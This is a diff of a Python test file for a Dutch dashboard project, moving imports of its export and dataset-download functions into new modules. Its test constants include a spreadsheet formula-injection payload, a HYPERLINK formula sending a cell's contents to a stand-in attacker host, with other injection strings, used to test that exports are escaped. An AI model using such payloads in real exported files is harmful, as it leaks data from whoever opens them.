@@ -8,7 +8,8 @@ import io
 import pandas as pd
 from openpyxl import load_workbook
 
-from ijmond_dash import export
+from ijmond_dash.analysis import woorden
+from ijmond_dash.ui import export
 
 PAYLOAD = '=HYPERLINK("http://evil.example/?d="&A1,"Klik hier")'
 DANGEROUS = [PAYLOAD, "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]
@@ -68,9 +69,10 @@ def test_csv_is_what_dutch_excel_reads_literal_bytes():
 def test_store_decimals_come_out_with_a_decimal_comma(engine):
     """The Bronnen page's download of a dataset with decimals, from the real store (both
     backends): every fraction has a comma, none a point."""
-    from ijmond_dash import formatting, queries
+    from ijmond_dash import formatting
+    from ijmond_dash.store import queries
 
-    zv = formatting.dataset_download(queries.lezer(engine), "ziekteverzuim")
+    zv = woorden.dataset_download(queries.lezer(engine), "ziekteverzuim")
     rows = list(csv.reader(io.StringIO(export.csv_bytes(zv).decode("utf-8-sig"), newline=""), delimiter=";"))
     kop = rows[0]
     for naam in ("Realisatie", "Target", "Afwijking"):
